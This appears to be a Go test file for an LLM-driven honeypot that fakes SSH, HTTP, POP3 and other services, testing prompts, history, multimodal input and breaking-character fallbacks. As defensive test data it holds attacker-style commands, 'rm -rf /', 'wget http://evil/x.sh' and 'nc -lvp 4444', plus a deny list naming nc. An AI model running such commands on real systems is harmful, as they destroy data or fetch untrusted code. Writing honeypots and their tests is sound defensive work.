+func TestChatCompletionsPayloadSendsZeroTemperature(t *testing.T) {
+	//Given
+	honeypot := NewLLMHoneypot(WithConfig(LLMHoneypot{Model: "gpt-4o", Temperature: ExplicitZero}))
+
+	//When
+	payload, err := honeypot.chatCompletionsPayload([]Message{{Role: USER.String(), Content: "ls"}}, nil, false)
+
+	//Then
+	assert.Nil(t, err)
+	assert.Contains(t, string(payload), `"temperature":0,`)
+	assert.Contains(t, string(payload), `"top_p":1`)
+}
+
+func TestChatCompletionsPayloadReasoningModel(t *testing.T) {
+	//Given
+	chat := NewLLMHoneypot(WithConfig(LLMHoneypot{Model: "gpt-4o", MaxTokens: 512}))
+	reasoning := NewLLMHoneypot(WithConfig(LLMHoneypot{Model: "o3-mini", MaxTokens: 512}))
+	msgs := []Message{{Role: USER.String(), Content: "ls"}}
+
+	//When
+	chatPayload, chatErr := chat.chatCompletionsPayload(msgs, nil, false)
+	reasoningPayload, reasoningErr := reasoning.chatCompletionsPayload(msgs, nil, false)
+
+	//Then
+	assert.Nil(t, chatErr)
+	assert.Nil(t, reasoningErr)
+	assert.Contains(t, string(chatPayload), `"temperature":`)
+	assert.Contains(t, string(chatPayload), `"top_p":`)
+	assert.Contains(t, string(chatPayload), `"max_tokens":512`)
+	assert.NotContains(t, string(reasoningPayload), `"temperature"`)
+	assert.NotContains(t, string(reasoningPayload), `"top_p"`)
+	assert.NotContains(t, string(reasoningPayload), `"max_tokens"`)
+	assert.Contains(t, string(reasoningPayload), `"max_completion_tokens":512`)
+}
+
+func TestIsReasoningModel(t *testing.T) {
+	assert.True(t, isReasoningModel("o1"))
+	assert.True(t, isReasoningModel("o1-preview"))
+	assert.True(t, isReasoningModel("o3-mini"))
+	assert.True(t, isReasoningModel("openai/o1"))
+	assert.False(t, isReasoningModel("gpt-4o"))
+	assert.False(t, isReasoningModel("gpt-4o-mini"))
+	assert.False(t, isReasoningModel("ollama3"))
+}
+
+func TestHTTPRequestContextString(t *testing.T) {
+	request := HTTPRequestContext{
+		Method: "POST",
+		Path:   "/api/login",
+		Headers: map[string][]string{
+			"User-Agent":    {"curl/8.5.0"},
+			"Authorization": {"Bearer abc"},
+		},
+		Body: `{"user":"admin"}`,
+	}
+
+	assert.Equal(t, "POST /api/login HTTP/1.1\nAuthorization: Bearer abc\nUser-Agent: curl/8.5.0\n\n{\"user\":\"admin\"}", request.String())
+	assert.Equal(t, "GET / HTTP/1.1", HTTPRequestContext{Method: "GET", Path: "/"}.String())
+}
+
+func TestBuildPromptWithHTTPRequestContext(t *testing.T) {
+	//Given
+	honeypot := LLMHoneypot{
+		Protocol: tracer.HTTP,
+		HTTPRequest: &HTTPRequestContext{
+			Method:  "GET",
+			Path:    "/.env",
+			Headers: map[string][]string{"Host": {"staging.corp.local"}},
+		},
+	}
+
+	//When
+	prompt, err := honeypot.buildPrompt("GET /.env")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "GET /.env HTTP/1.1\nHost: staging.corp.local", prompt[len(prompt)-1].Content)
+}
+
+func TestLooksLikeBreakChar(t *testing.T) {
+	assert.True(t, looksLikeBreakChar("As an AI language model, I cannot run commands."))
+	assert.True(t, looksLikeBreakChar("I'm sorry, but I can't help with that."))
+	assert.True(t, looksLikeBreakChar("  I cannot execute commands."))
+	assert.False(t, looksLikeBreakChar("total 8\ndrwxr-xr-x 2 user user 4096 Jan 1 10:00 ."))
+	assert.False(t, looksLikeBreakChar("<html><body>Welcome to nginx!</body></html>"))
+	// legitimate content quoting refusals, the project name or chatty first words
+	assert.False(t, looksLikeBreakChar("Sure! The output of ls would be:\nfile.txt"))
+	assert.False(t, looksLikeBreakChar("Here is the list of mirrors:\nhttp://archive.ubuntu.com"))
+	assert.False(t, looksLikeBreakChar("E: Sub-process failed\nI cannot lock /var/lib/dpkg/lock"))
+	assert.False(t, looksLikeBreakChar("<html><body><h1>Honeypot research lab</h1></body></html>"))
+}
+
+func TestBuildExecuteModelBreakCharacter(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	httpmock.RegisterResponder("POST", ollamaEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			return newJSONStringResponse(`{"message":{"role":"assistant","content":"As an AI language model I cannot execute commands."}}`), nil
+		},
+	)
+
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Histories: make([]Message, 0),
+		Protocol:  tracer.SSH,
+		Model:     "llama3",
+		Provider:  Ollama,
+	})
+	honeypot.client = client
+	before := BreakCharacterIncidents()
+
+	//When
+	str, err := honeypot.ExecuteModel("rm -rf /")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "command not found", str)
+	assert.Empty(t, honeypot.Histories)
+	assert.Equal(t, before+1, BreakCharacterIncidents())
+}
+
+func TestBreakCharacterFallbackHTTP(t *testing.T) {
+	//Given
+	nginx := LLMHoneypot{Protocol: tracer.HTTP}
+	apache := LLMHoneypot{Protocol: tracer.HTTP, Persona: "http/apache"}
+	websocket := LLMHoneypot{Protocol: tracer.HTTP, WebSocket: true}
+
+	//When
+	nginxPage := nginx.breakCharacterFallback("GET /admin")
+	apachePage := apache.breakCharacterFallback("GET /admin")
+
+	//Then
+	assert.True(t, strings.HasPrefix(nginxPage, "<html>\r\n<head><title>404 Not Found</title></head>"))
+	assert.Contains(t, nginxPage, "<hr><center>nginx/1.24.0</center>")
+	assert.Contains(t, apachePage, "<p>The requested URL was not found on this server.</p>")
+	assert.Empty(t, websocket.breakCharacterFallback("{\"type\":\"ping\"}"))
+}
+
+func TestBuildExecuteModelBreakCharacterCommandNotFoundResponse(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	httpmock.RegisterResponder("POST", ollamaEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			return newJSONStringResponse(`{"message":{"role":"assistant","content":"As an AI language model I cannot execute commands."}}`), nil
+		},
+	)
+
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol:                tracer.SSH,
+		Model:                   "llama3",
+		Provider:                Ollama,
+		CommandNotFoundResponse: "sh: %s: not found",
+		DenyCommands:            []string{"nc"},
+	})
+	honeypot.client = client
+
+	//When
+	broken, err := honeypot.ExecuteModel("wget http://evil/x.sh")
+	assert.Nil(t, err)
+	denied, err := honeypot.ExecuteModel("nc -lvp 4444")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "sh: wget: not found", broken)
+	assert.Equal(t, "sh: nc: not found", denied)
+}
+
+func TestBuildPromptCommandNotFoundResponse(t *testing.T) {
+	//Given
+	honeypot := LLMHoneypot{
+		Protocol:                tracer.SSH,
+		CommandNotFoundResponse: "bash: %s: command not found",
+		TypoToleranceHint:       true,
+	}
+
+	//When
+	prompt, err := honeypot.buildPrompt("sl")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Contains(t, prompt[0].Content, `reply exactly: "bash: <command>: command not found", with <command> replaced by the command name.`)
+	assert.NotContains(t, prompt[0].Content, `reply exactly: "command not found"`)
+	assert.True(t, strings.HasSuffix(prompt[0].Content, typoToleranceHint))
+}
+
+type mockInteractionSink struct {
+	interactions []Interaction
+}
+
+func (m *mockInteractionSink) Emit(ctx context.Context, interaction Interaction) error {
+	m.interactions = append(m.interactions, interaction)
+	return nil
+}
+
+func TestBuildExecuteModelEmitsInteractions(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	httpmock.RegisterResponder("POST", openAIEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			return newJSONStringResponse(`{"choices":[{"message":{"role":"assistant","content":"prova.txt"}}],"usage":{"prompt_tokens":30,"completion_tokens":2,"total_tokens":32}}`), nil
+		},
+	)
+
+	sink := &mockInteractionSink{}
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		OpenAIKey: "sdjdnklfjndslkjanfk",
+		Protocol:  tracer.SSH,
+		Model:     "gpt-4o",
+		Provider:  OpenAI,
+		Sink:      sink,
+	})
+	honeypot.client = client
+
+	//When
+	_, err := honeypot.ExecuteModel("ls")
+	assert.Nil(t, err)
+	honeypot.OpenAIKey = ""
+	_, err = honeypot.ExecuteModel("id")
+
+	//Then
+	assert.Len(t, sink.interactions, 2)
+	assert.Equal(t, "ls", sink.interactions[0].Command)
+	assert.Equal(t, "prova.txt", sink.interactions[0].Response)
+	assert.Equal(t, OpenAI, sink.interactions[0].Provider)
+	assert.Equal(t, "gpt-4o", sink.interactions[0].Model)
+	assert.Equal(t, Usage{PromptTokens: 30, CompletionTokens: 2, TotalTokens: 32}, sink.interactions[0].Usage)
+	assert.InDelta(t, 0.000095, sink.interactions[0].CostUSD, 1e-12)
+	assert.Nil(t, sink.interactions[0].Err)
+	assert.Equal(t, "id", sink.interactions[1].Command)
+	assert.Equal(t, err, sink.interactions[1].Err)
+}
+
+func TestBuildExecuteModelContextCancelled(t *testing.T) {
+	// Given
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		w.Write([]byte(`{"message":{"role":"assistant","content":"prova.txt"}}`))
+	}))
+	defer server.Close()
+
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol: tracer.SSH,
+		Model:    "llama3",
+		Provider: Ollama,
+		Host:     server.URL,
+	})
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+
+	//When
+	_, err := honeypot.ExecuteModelContext(ctx, "ls")
+
+	//Then
+	assert.ErrorIs(t, err, context.Canceled)
+}
+
+func TestBuildExecuteModelControlCommands(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	httpmock.RegisterResponder("POST", ollamaEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			t.Fatal("the model must not be queried for control commands")
+			return nil, nil
+		},
+	)
+
+	var exited string
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol:              tracer.SSH,
+		Model:                 "llama3",
+		Provider:              Ollama,
+		HandleControlCommands: true,
+		OnExit:                func(command string) { exited = command },
+	})
+	honeypot.client = client
+
+	//When
+	clear, err := honeypot.ExecuteModel("clear")
+	assert.Nil(t, err)
+	logout, err := honeypot.ExecuteModel("logout")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "\033[H\033[2J", clear)
+	assert.Equal(t, "", logout)
+	assert.Equal(t, "logout", exited)
+	assert.Equal(t, 0, httpmock.GetTotalCallCount())
+}
+
+func TestBuildExecuteModelControlCommandsDisabled(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	httpmock.RegisterResponder("POST", ollamaEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			return newJSONStringResponse(`{"message":{"role":"assistant","content":"clear: command not found"}}`), nil
+		},
+	)
+
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol: tracer.SSH,
+		Model:    "llama3",
+		Provider: Ollama,
+	})
+	honeypot.client = client
+
+	//When
+	str, err := honeypot.ExecuteModel("clear")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "clear: command not found", str)
+	assert.Equal(t, 1, httpmock.GetTotalCallCount())
+}
+
+func TestBuildExecuteModelSkipBlankInput(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	httpmock.RegisterResponder("POST", ollamaEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			t.Fatal("the model must not be queried for blank input")
+			return nil, nil
+		},
+	)
+
+	ssh := InitLLMHoneypot(LLMHoneypot{
+		Protocol:       tracer.SSH,
+		Model:          "llama3",
+		Provider:       Ollama,
+		SkipBlankInput: true,
+	})
+	ssh.client = client
+	pop3 := InitLLMHoneypot(LLMHoneypot{
+		Protocol:       tracer.POP3,
+		Model:          "llama3",
+		Provider:       Ollama,
+		SkipBlankInput: true,
+	})
+	pop3.client = client
+	custom := InitLLMHoneypot(LLMHoneypot{
+		Protocol:           tracer.HTTP,
+		Model:              "llama3",
+		Provider:           Ollama,
+		SkipBlankInput:     true,
+		BlankInputResponse: "HTTP/1.1 408 Request Timeout",
+	})
+	custom.client = client
+
+	//When
+	sshOutput, sshErr := ssh.ExecuteModel("   \t")
+	pop3Output, pop3Err := pop3.ExecuteModel("")
+	customOutput, customErr := custom.ExecuteModel("")
+
+	//Then
+	assert.Nil(t, sshErr)
+	assert.Nil(t, pop3Err)
+	assert.Nil(t, customErr)
+	assert.Equal(t, "", sshOutput)
+	assert.Equal(t, "-ERR Unknown command.", pop3Output)
+	assert.Equal(t, "HTTP/1.1 408 Request Timeout", customOutput)
+	assert.Empty(t, ssh.Histories)
+	assert.Equal(t, 0, httpmock.GetTotalCallCount())
+}
+
+func TestBuildExecuteModelEchoCommand(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	httpmock.RegisterResponder("POST", ollamaEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			return newJSONStringResponse(`{"message":{"role":"assistant","content":"prova.txt"}}`), nil
+		},
+	)
+
+	echoed := InitLLMHoneypot(LLMHoneypot{
+		Protocol:        tracer.SSH,
+		Model:           "llama3",
+		Provider:        Ollama,
+		EchoCommand:     true,
+		PromptVariables: PromptVariables{Username: "root", Hostname: "web-01"},
+	})
+	echoed.client = client
+	customPrompt := InitLLMHoneypot(LLMHoneypot{
+		Protocol:    tracer.SSH,
+		Model:       "llama3",
+		Provider:    Ollama,
+		EchoCommand: true,
+		EchoPrompt:  "deploy@ci:/srv$ ",
+	})
+	customPrompt.client = client
+	disabled := InitLLMHoneypot(LLMHoneypot{
+		Protocol: tracer.SSH,
+		Model:    "llama3",
+		Provider: Ollama,
+	})
+	disabled.client = client
+
+	//When
+	echoedOutput, err := echoed.ExecuteModel("ls")
+	assert.Nil(t, err)
+	customOutput, err := customPrompt.ExecuteModel("ls")
+	assert.Nil(t, err)
+	disabledOutput, err := disabled.ExecuteModel("ls")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "root@web-01:~# ls\nprova.txt", echoedOutput)
+	assert.Equal(t, "deploy@ci:/srv$ ls\nprova.txt", customOutput)
+	assert.Equal(t, "prova.txt", disabledOutput)
+	assert.Equal(t, "prova.txt", echoed.Histories[len(echoed.Histories)-1].Content)
+}
+
+func TestBuildExecuteModelEchoCommandOnlyForTerminals(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	httpmock.RegisterResponder("POST", ollamaEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			return newJSONStringResponse(`{"message":{"role":"assistant","content":"HTTP/1.1 200 OK\r\n\r\nhello"}}`), nil
+		},
+	)
+
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol:    tracer.HTTP,
+		Model:       "llama3",
+		Provider:    Ollama,
+		EchoCommand: true,
+	})
+	honeypot.client = client
+
+	//When
+	str, err := honeypot.ExecuteModel("GET /")
+
+	//Then
+	assert.Nil(t, err)
+	assert.False(t, strings.HasPrefix(str, "user@"))
+}
+
+func TestBuildExecuteModelGeminiSafetySettings(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	var body GeminiRequest
+	httpmock.RegisterResponder("POST", fmt.Sprintf(geminiEndpoint, "gemini-pro"),
+		func(req *http.Request) (*http.Response, error) {
+			json.NewDecoder(req.Body).Decode(&body)
+			return newJSONStringResponse(`{"candidates":[{"content":{"parts":[{"text":"prova.txt"}]}}]}`), nil
+		},
+	)
+
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol:     tracer.SSH,
+		Model:        "gemini-pro",
+		Provider:     Gemini,
+		GoogleAPIKey: "sdjdnklfjndslkjanfk",
+		GeminiSafetySettings: []GeminiSafetySetting{
+			{Category: "HARM_CATEGORY_DANGEROUS_CONTENT", Threshold: "BLOCK_NONE"},
+		},
+	})
+	honeypot.client = client
+
+	//When
+	str, err := honeypot.ExecuteModel("ls")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "prova.txt", str)
+	assert.Equal(t, []GeminiSafetySetting{
+		{Category: "HARM_CATEGORY_DANGEROUS_CONTENT", Threshold: "BLOCK_NONE"},
+	}, body.SafetySettings)
+}
+
+func TestBuildExecuteModelGeminiBlocked(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	httpmock.RegisterResponder("POST", fmt.Sprintf(geminiEndpoint, "gemini-pro"),
+		func(req *http.Request) (*http.Response, error) {
+			return newJSONStringResponse(`{"promptFeedback":{"blockReason":"SAFETY"}}`), nil
+		},
+	)
+
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol:     tracer.SSH,
+		Model:        "gemini-pro",
+		Provider:     Gemini,
+		GoogleAPIKey: "sdjdnklfjndslkjanfk",
+	})
+	honeypot.client = client
+
+	//When
+	_, err := honeypot.ExecuteModel("ls")
+
+	//Then
+	assert.Equal(t, "gemini blocked the prompt: SAFETY", err.Error())
+}
+
+func TestBuildPromptRDPAndVNC(t *testing.T) {
+	tests := []struct {
+		protocol tracer.Protocol
+		system   string
+		banner   string
+	}{
+		{tracer.RDP, systemPromptVirtualizeRDPServer, "PROTOCOL_HYBRID"},
+		{tracer.VNC, systemPromptVirtualizeVNCServer, "RFB 003.008"},
+	}
+
+	for _, tt := range tests {
+		//Given
+		honeypot := LLMHoneypot{
+			Histories: make([]Message, 0),
+			Protocol:  tt.protocol,
+		}
+
+		//When
+		prompt, err := honeypot.buildPrompt("hello")
+
+		//Then
+		assert.Nil(t, err)
+		assert.Equal(t, SystemPromptLen, len(prompt))
+		assert.Equal(t, tt.system, prompt[0].Content)
+		assert.Contains(t, prompt[2].Content, tt.banner)
+		assert.Equal(t, "hello", prompt[3].Content)
+	}
+}
+
+func TestAppendAndSetHistory(t *testing.T) {
+	//Given
+	honeypot := NewLLMHoneypot(WithProtocol(tracer.SSH))
+
+	//When
+	err := honeypot.SetHistory([]Message{
+		{Role: USER.String(), Content: "cd /var/www"},
+		{Role: ASSISTANT.String(), Content: ""},
+	})
+	assert.Nil(t, err)
+	err = honeypot.AppendHistory(USER, "pwd")
+	assert.Nil(t, err)
+	prompt, err := honeypot.buildPrompt("ls")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, SystemPromptLen+3, len(prompt))
+	assert.Equal(t, "cd /var/www", prompt[3].Content)
+	assert.Equal(t, "pwd", prompt[5].Content)
+}
+
+func TestAppendAndSetHistoryInvalidRole(t *testing.T) {
+	//Given
+	honeypot := NewLLMHoneypot(WithProtocol(tracer.SSH))
+
+	//When
+	appendErr := honeypot.AppendHistory(Role(7), "pwd")
+	setErr := honeypot.SetHistory([]Message{{Role: "function", Content: "x"}})
+
+	//Then
+	assert.Equal(t, "invalid role 7", appendErr.Error())
+	assert.Equal(t, `invalid role "function" at message 0`, setErr.Error())
+	assert.Empty(t, honeypot.Histories)
+}
+
+func TestAppendHistoryConcurrent(t *testing.T) {
+	//Given
+	honeypot := NewLLMHoneypot(WithProtocol(tracer.SSH))
+	done := make(chan struct{})
+
+	//When
+	for i := 0; i < 50; i++ {
+		go func() {
+			honeypot.AppendHistory(USER, "id")
+			done <- struct{}{}
+		}()
+	}
+	for i := 0; i < 50; i++ {
+		<-done
+	}
+
+	//Then
+	assert.Equal(t, 50, len(honeypot.history()))
+}
+
+func TestStripTrailingPrompt(t *testing.T) {
+	honeypot := LLMHoneypot{Protocol: tracer.SSH}
+
+	assert.Equal(t, "prova.txt\n", honeypot.postProcess("prova.txt\nuser@ubuntu:~$ "))
+	assert.Equal(t, "prova.txt\n", honeypot.postProcess("prova.txt\nroot@web-01:/var/www# \n"))
+	assert.Equal(t, "prova.txt\n", honeypot.postProcess("prova.txt\n[root@centos7 ~]# "))
+	assert.Equal(t, "prova.txt\n", honeypot.postProcess("prova.txt\nbash-5.1$"))
+	assert.Equal(t, "", honeypot.postProcess("user@ubuntu:~$ "))
+	assert.Equal(t, "prova.txt", honeypot.postProcess("prova.txt"))
+	assert.Equal(t, "price: 5$\ntotal", honeypot.postProcess("price: 5$\ntotal"))
+}
+
+func TestStripTrailingPromptCustomRegex(t *testing.T) {
+	honeypot := LLMHoneypot{Protocol: tracer.SSH, SSHPromptRegex: `^admin@fw01>\s*$`}
+	invalid := LLMHoneypot{Protocol: tracer.SSH, SSHPromptRegex: `(`}
+
+	assert.Equal(t, "show version\n", honeypot.postProcess("show version\nadmin@fw01> "))
+	assert.Equal(t, "prova.txt\nuser@ubuntu:~$ ", honeypot.postProcess("prova.txt\nuser@ubuntu:~$ "))
+	assert.Equal(t, "prova.txt\nuser@ubuntu:~$ ", invalid.postProcess("prova.txt\nuser@ubuntu:~$ "))
+}
+
+var pngHeader = []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
+
+func TestBuildExecuteModelMultimodalOpenAI(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	var body map[string]interface{}
+	httpmock.RegisterResponder("POST", openAIEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			json.NewDecoder(req.Body).Decode(&body)
+			return newJSONStringResponse(`{"choices":[{"message":{"role":"assistant","content":"{\"status\":\"uploaded\"}"}}]}`), nil
+		},
+	)
+
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol:  tracer.HTTP,
+		Model:     "gpt-4o",
+		Provider:  OpenAI,
+		OpenAIKey: "sdjdnklfjndslkjanfk",
+	})
+	honeypot.client = client
+
+	//When
+	str, err := honeypot.ExecuteModelMultimodal("POST /upload", [][]byte{pngHeader})
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, `{"status":"uploaded"}`, str)
+	messages := body["messages"].([]interface{})
+	last := messages[len(messages)-1].(map[string]interface{})
+	parts := last["content"].([]interface{})
+	assert.Equal(t, "POST /upload", parts[0].(map[string]interface{})["text"])
+	imageURL := parts[1].(map[string]interface{})["image_url"].(map[string]interface{})["url"].(string)
+	assert.Contains(t, imageURL, "data:image/png;base64,")
+}
+
+func TestBuildExecuteModelMultimodalOllamaAndGemini(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	var ollamaBody Request
+	var geminiBody GeminiRequest
+	httpmock.RegisterResponder("POST", ollamaEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			json.NewDecoder(req.Body).Decode(&ollamaBody)
+			return newJSONStringResponse(`{"message":{"role":"assistant","content":"ok"}}`), nil
+		},
+	)
+	httpmock.RegisterResponder("POST", fmt.Sprintf(geminiEndpoint, "gemini-pro"),
+		func(req *http.Request) (*http.Response, error) {
+			json.NewDecoder(req.Body).Decode(&geminiBody)
+			return newJSONStringResponse(`{"candidates":[{"content":{"parts":[{"text":"ok"}]}}]}`), nil
+		},
+	)
+
+	ollama := InitLLMHoneypot(LLMHoneypot{Protocol: tracer.HTTP, Model: "llava", Provider: Ollama})
+	ollama.client = client
+	gemini := InitLLMHoneypot(LLMHoneypot{Protocol: tracer.HTTP, Model: "gemini-pro", Provider: Gemini, GoogleAPIKey: "sdjdnklfjndslkjanfk"})
+	gemini.client = client
+
+	//When
+	_, ollamaErr := ollama.ExecuteModelMultimodal("POST /upload", [][]byte{pngHeader})
+	_, geminiErr := gemini.ExecuteModelMultimodal("POST /upload", [][]byte{pngHeader})
+
+	//Then
+	assert.Nil(t, ollamaErr)
+	assert.Equal(t, [][]byte{pngHeader}, ollamaBody.Messages[len(ollamaBody.Messages)-1].Images)
+	assert.Nil(t, geminiErr)
+	lastParts := geminiBody.Contents[len(geminiBody.Contents)-1].Parts
+	assert.Equal(t, "POST /upload", lastParts[0].Text)
+	assert.Equal(t, "image/png", lastParts[1].InlineData.MimeType)
+}
+
+func TestBuildExecuteModelMultimodalOllamaTextOnlyModel(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	var bodies []Request
+	httpmock.RegisterResponder("POST", ollamaEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			var body Request
+			json.NewDecoder(req.Body).Decode(&body)
+			bodies = append(bodies, body)
+			if hasImages(body.Messages) {
+				return httpmock.NewStringResponse(400, `{"error":"llama3 does not support vision"}`), nil
+			}
+			return newJSONStringResponse(`{"message":{"role":"assistant","content":"HTTP/1.1 201 Created"}}`), nil
+		},
+	)
+
+	honeypot := InitLLMHoneypot(LLMHoneypot{Protocol: tracer.HTTP, Model: "llama3", Provider: Ollama})
+	honeypot.client = client
+
+	//When
+	str, err := honeypot.ExecuteModelMultimodal("POST /upload", [][]byte{pngHeader})
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "HTTP/1.1 201 Created", str)
+	assert.Len(t, bodies, 2)
+	assert.Equal(t, "POST /upload", bodies[1].Messages[len(bodies[1].Messages)-1].Content)
+}
+
+func TestBuildExecuteModelMultimodalUnsupported(t *testing.T) {
+	//Given
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol:  tracer.HTTP,
+		Model:     "command-r",
+		Provider:  Cohere,
+		CohereKey: "sdjdnklfjndslkjanfk",
+	})
+
+	//When
+	_, err := honeypot.ExecuteModelMultimodal("POST /upload", [][]byte{pngHeader})
+
+	//Then
+	assert.ErrorIs(t, err, ErrImagesNotSupported)
+}
+
+func TestBuildExecuteModelExecProvider(t *testing.T) {
+	//Given
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol:    tracer.SSH,
+		Provider:    Exec,
+		ExecCommand: []string{"sh", "-c", `grep -q "User: ls" && echo prova.txt`},
+	})
+
+	//When
+	str, err := honeypot.ExecuteModel("ls")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "prova.txt", str)
+}
+
+func TestBuildExecuteModelExecProviderErrors(t *testing.T) {
+	//Given
+	empty := InitLLMHoneypot(LLMHoneypot{Protocol: tracer.SSH, Provider: Exec})
+	failing := InitLLMHoneypot(LLMHoneypot{
+		Protocol:    tracer.SSH,
+		Provider:    Exec,
+		ExecCommand: []string{"sh", "-c", "echo model not found >&2; exit 1"},
+	})
+	slow := InitLLMHoneypot(LLMHoneypot{
+		Protocol:    tracer.SSH,
+		Provider:    Exec,
+		ExecCommand: []string{"sleep", "5"},
+		Timeout:     50 * time.Millisecond,
+	})
+
+	//When
+	_, emptyErr := empty.ExecuteModel("ls")
+	_, failingErr := failing.ExecuteModel("ls")
+	_, slowErr := slow.ExecuteModel("ls")
+
+	//Then
+	assert.Equal(t, "execCommand is empty", emptyErr.Error())
+	assert.Equal(t, "sh failed: exit status 1: model not found", failingErr.Error())
+	assert.ErrorIs(t, slowErr, context.DeadlineExceeded)
+}
+
+func TestFormatPlainPrompt(t *testing.T) {
+	prompt := formatPlainPrompt([]Message{
+		{Role: SYSTEM.String(), Content: "You are a shell"},
+		{Role: USER.String(), Content: "pwd"},
+		{Role: ASSISTANT.String(), Content: "/home/user"},
+	})
+
+	assert.Equal(t, "System: You are a shell\nUser: pwd\nAssistant: /home/user\nAssistant: ", prompt)
+}
+
+func TestTruncateUTF8(t *testing.T) {
+	assert.Equal(t, "abc", truncateUTF8("abcdef", 3))
+	assert.Equal(t, "ab", truncateUTF8("abè", 3))
+	assert.Equal(t, "short", truncateUTF8("short", 10))
+}
+
+func TestBuildExecuteModelMaxResponseBytes(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	httpmock.RegisterResponder("POST", ollamaEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			return newJSONStringResponse(`{"message":{"role":"assistant","content":"line one\nline two\nline three"}}`), nil
+		},
+	)
+
+	truncating := InitLLMHoneypot(LLMHoneypot{
+		Protocol:         tracer.SSH,
+		Model:            "llama3",
+		Provider:         Ollama,
+		MaxResponseBytes: 20,
+	})
+	truncating.client = client
+	rejecting := InitLLMHoneypot(LLMHoneypot{
+		Protocol:                tracer.SSH,
+		Model:                   "llama3",
+		Provider:                Ollama,
+		MaxResponseBytes:        20,
+		RejectOversizedResponse: true,
+	})
+	rejecting.client = client
+
+	//When
+	truncated, truncateErr := truncating.ExecuteModel("cat notes.txt")
+	_, rejectErr := rejecting.ExecuteModel("cat notes.txt")
+
+	//Then
+	assert.Nil(t, truncateErr)
+	assert.Equal(t, "line one\nline two\n", truncated)
+	assert.ErrorIs(t, rejectErr, ErrResponseTooLarge)
+	assert.Equal(t, defaultMaxResponseBytes, NewLLMHoneypot().MaxResponseBytes)
+}
+
+func TestBuildPromptSNMP(t *testing.T) {
+	//Given
+	honeypot := LLMHoneypot{
+		Histories: make([]Message, 0),
+		Protocol:  tracer.SNMP,
+	}
+
+	//When
+	prompt, err := honeypot.buildPrompt("WALK 1.3.6.1.2.1.2.2")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, SystemPromptLen, len(prompt))
+	assert.Equal(t, systemPromptVirtualizeSNMPAgent, prompt[0].Content)
+	assert.Equal(t, "GET 1.3.6.1.2.1.1.1.0", prompt[1].Content)
